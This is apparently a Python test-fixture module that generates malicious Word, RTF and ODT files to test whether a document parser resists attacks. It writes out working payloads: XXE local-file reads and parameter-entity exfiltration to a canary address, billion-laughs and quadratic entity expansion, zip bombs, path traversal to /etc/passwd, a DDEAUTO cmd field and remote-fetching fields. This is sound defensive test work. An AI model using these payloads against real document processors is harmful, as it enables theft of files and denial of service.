"""Makers of Word, RTF and ODT files that mean harm: each gives the bytes of one file."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from xml.sax.saxutils import escape

Maker = Callable[[str, str], bytes]
"""Takes the canary's http address and the path of the canary file."""

TEXT = "The hotline answers every child that calls it."
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_PARAGRAPH = f"<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>"
_DEEP = 100_000


def word(body: str = _PARAGRAPH, doctype: str = "", links: str = "", parts: Mapping[str, bytes] | None = None) -> bytes:
    """Write a DOCX with this body; `links` are relationships of the main part, `parts` further members."""
    document = f"{_DECLARATION}{doctype}<w:document {_W} {_R}><w:body>{body}</w:body></w:document>"
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>',
        "_rels/.rels": _relations(link("1", "officeDocument", "word/document.xml", external=False)),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": _relations(links),
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in {**members, **(parts or {})}.items():
            archive.writestr(name, content)
    return target.getvalue()


def link(identity: str, kind: str, target: str, *, external: bool = True) -> str:
    """Write one relationship."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r{identity}" Type="{_KIND}/{kind}" Target="{escape(target)}"{mode}/>'


def _relations(links: str) -> str:
    return f'{_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'


def _in_text(entity: str) -> str:
    return f"{_PARAGRAPH}<w:p><w:r><w:t>Before {entity} after.</w:t></w:r></w:p>"


def _laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return word(_in_text("&l9;"), f'<!DOCTYPE w [<!ENTITY l0 "lol">{lines}]>')


def _quadratic() -> bytes:
    return word(_in_text("&a;" * 50_000), f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>')


def _entity(location: str) -> bytes:
    return word(_in_text("&x;"), f'<!DOCTYPE w [<!ENTITY x SYSTEM "{location}">]>')


def _parameter_entity(address: str, file: str) -> bytes:
    inner = f"<!ENTITY &#37; send SYSTEM '{address}/send?%file;'>"
    doctype = (
        f'<!DOCTYPE w SYSTEM "{address}/w.dtd" [<!ENTITY % file SYSTEM "file://{file}">'
        f'<!ENTITY % all "{inner}"><!ENTITY % outer SYSTEM "{address}/outer.dtd">%outer;%all;]>'
    )
    return word(_in_text(""), doctype)


def _external_links(address: str, file: str) -> bytes:
    kinds: tuple[str, ...] = (
        "image",
        "header",
        "footer",
        "footnotes",
        "endnotes",
        "comments",
        "styles",
        "numbering",
        "settings",
    )
    kinds += ("attachedTemplate", "oleObject", "aFChunk", "subDocument", "frame", "hyperlink", "font", "video")
    links = "".join(link(f"h{n}", kind, f"{address}/{kind}") for n, kind in enumerate(kinds))
    links += "".join(link(f"f{n}", kind, f"file://{file}") for n, kind in enumerate(kinds))
    links += "".join(link(f"u{n}", kind, r"\\127.0.0.1\share\x") for n, kind in enumerate(kinds))
    used = "".join(
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r{i}0"/>'
        f'</w:drawing></w:r></w:p><w:altChunk r:id="r{i}11"/><w:p><w:subDoc r:id="r{i}12"/></w:p>'
        for i in "hfu"
    )
    return word(_PARAGRAPH + used, links=links)


def _fields(address: str, file: str) -> bytes:
    codes = (
        f"INCLUDEPICTURE {address}/p.png",
        f"INCLUDETEXT {file}",
        "DDEAUTO c:\\\\x cmd",
        f"LINK {address}/l",
        "IMPORT x",
    )
    body = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{escape(code)}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in codes
    )
    return word(_PARAGRAPH + body)


def _climbing(file: str) -> bytes:
    up = "../" * 30 + file.lstrip("/")
    links = link("1", "header", up, external=False) + link("2", "footnotes", "/" + up, external=False)
    return word(links=links, parts={up: b"<x/>", "/etc/passwd": b"<x/>", "word\\..\\..\\x.xml": b"<x/>"})


def zip_bomb() -> bytes:
    """Write a Word file with a picture of 200 MB of zeros."""
    return word(parts={"word/media/image1.bmp": bytes(200_000_000)})


def _overlapping() -> bytes:
    """Let 400 entries share one stream of 10 MB: 4 GB from a small file."""
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/0.bmp", bytes(10_000_000))
        shared = archive.filelist[-1]
        for number in range(1, 400):
            entry = zipfile.ZipInfo(f"word/media/{number}.bmp")
            for key in ("compress_type", "header_offset", "CRC", "compress_size", "file_size"):
                setattr(entry, key, getattr(shared, key))
            archive.filelist.append(entry)
    return target.getvalue()


def _lying_size(part: bytes, field: int, size: int) -> bytes:
    """Write another size (field 20: packed, 24: unpacked) into the directory entry of a part."""
    data = bytearray(word(_PARAGRAPH * 1_000))
    place = data.find(b"PK\x01\x02")
    while data[place + 46 : place + 46 + len(part)] != part:
        place = data.find(b"PK\x01\x02", place + 4)
    struct.pack_into("<I", data, place + field, size)
    return bytes(data)


def _wide_table(span: str) -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{_PARAGRAPH}</w:tc>'
    return word(f"<w:tbl><w:tr>{cell}{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>")


def _nested_tables(levels: int) -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * levels + _PARAGRAPH + "<w:p/></w:tc></w:tr></w:tbl>" * levels)


def _numbered(kind: str) -> bytes:
    levels = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="2147483647"/><w:numFmt w:val="{kind}"/>'
        f'<w:lvlText w:val="{"%1" * 9}"/></w:lvl>'
        for n in range(9)
    )
    numbering = (
        f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        f"<w:r><w:t>{TEXT}</w:t></w:r></w:p>"
    )
    part = {"word/numbering.xml": numbering.encode()}
    return word(item * 3, links=link("1", "numbering", "numbering.xml", external=False), parts=part)


def _style_loop() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/>'
        f'<w:link w:val="S{n}"/></w:style>'
        for n in range(3)
    )
    part = {"word/styles.xml": f"<w:styles {_W}>{styles}</w:styles>".encode()}
    body = f'<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>{TEXT}</w:t></w:r></w:p>'
    return word(body, links=link("1", "styles", "styles.xml", external=False), parts=part)


def odt(address: str, file: str) -> bytes:
    """Write an ODT whose picture and section come from outside."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{urn}:1.0"'
        for name, urn in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("svg", "svg-compatible"))
    )
    section = '<text:section text:name="{0}"><text:section-source xlink:href="{1}"/><text:p>old</text:p></text:section>'
    content = (
        f'{_DECLARATION}<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'office:version="1.2"><office:body><office:text><text:p>{TEXT}</text:p>'
        f"{section.format('a', f'file://{file}')}{section.format('b', f'{address}/section')}"
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm">'
        f'<draw:image xlink:href="{address}/odt.png"/></draw:frame></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.text"
    manifest = (
        f'{_DECLARATION}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<m:file-entry m:full-path="/" m:media-type="{kind}"/>'
        '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in (("mimetype", kind), ("content.xml", content), ("META-INF/manifest.xml", manifest)):
            archive.writestr(name, part)
    return target.getvalue()


def rtf(address: str, file: str) -> bytes:
    """Write an RTF whose fields ask for a picture and a file from outside."""
    fields = "".join(
        f"{{\\field{{\\*\\fldinst {code}}}{{\\fldrslt x}}}}"
        for code in (
            f"INCLUDEPICTURE {address}/rtf.png",
            f'INCLUDETEXT "{file}"',
            f"LINK Word.Document {address}/l \\\\a",
        )
    )
    return f"{{\\rtf1\\ansi{{\\*\\template {address}/t.dot}} {TEXT}\\par {fields}\\par}}".encode()


READ: Mapping[str, Maker] = {
    "nested_zip_bomb": lambda *_: word(parts={"word/embeddings/inner.docx": zip_bomb()}),
    "entity_of_a_file": lambda _, file: _entity(f"file://{file}"),
    "entity_of_an_address": lambda address, _: _entity(f"{address}/entity"),
    "external_links": _external_links,
    "fields_that_fetch": _fields,
    "links_larger_than_the_file": lambda *_: _lying_size(b"_rels/.rels", 20, 3_000_000_000),
    "climbing_names": lambda _, file: _climbing(file),
    "wide_table": lambda *_: _wide_table("2147483647"),
    "table_wider_than_numbers": lambda *_: _wide_table("9" * 5000),
    "roman_numbers": lambda *_: _numbered("upperRoman"),
    "letters": lambda *_: _numbered("lowerLetter"),
    "style_loop": lambda *_: _style_loop(),
}
"""Files that hold a text, which must come out, and a trap, which must not spring."""

STOPPED: Mapping[str, Maker] = {
    "zip_bomb": lambda *_: zip_bomb(),
    "overlapping_entries": lambda *_: _overlapping(),
    "nested_100000_deep": lambda *_: word(
        "<w:sdt><w:sdtContent>" * _DEEP + _PARAGRAPH + "</w:sdtContent></w:sdt>" * _DEEP
    ),
    "part_smaller_than_it_unpacks": lambda *_: _lying_size(b"word/document.xml", 24, 500),
    "part_larger_than_the_file": lambda *_: _lying_size(b"word/document.xml", 20, 3_000_000_000),
    "only_the_mark": lambda *_: b"PK\x03\x04",
}
"""Files that hold nothing that can be read within the limits."""

EITHER: Mapping[str, Maker] = {
    "billion_laughs": lambda *_: _laughs(),
    "parameter_entities": _parameter_entity,
    "quadratic_entity": lambda *_: _quadratic(),
    "tables_60_deep": lambda *_: _nested_tables(60),
    "tables_2000_deep": lambda *_: _nested_tables(2000),
    "one_paragraph_of_10_megabytes": lambda *_: word(f"<w:p><w:r><w:t>{'a' * 10_000_000}</w:t></w:r></w:p>"),
    "paragraph_of_20000_runs": lambda *_: word(f"<w:p>{'<w:r><w:t>a </w:t></w:r>' * 20_000}</w:p>"),
    "5000_paragraphs": lambda *_: word("<w:p><w:r><w:t>One of many.</w:t></w:r></w:p>" * 5_000),
    "grid_of_a_million": lambda *_: word(
        f"<w:tbl><w:tblGrid>{'<w:gridCol/>' * 1_000_000}</w:tblGrid></w:tbl>{_PARAGRAPH}"
    ),
}
"""Files of which some readers make something: a document or one typed error is right."""
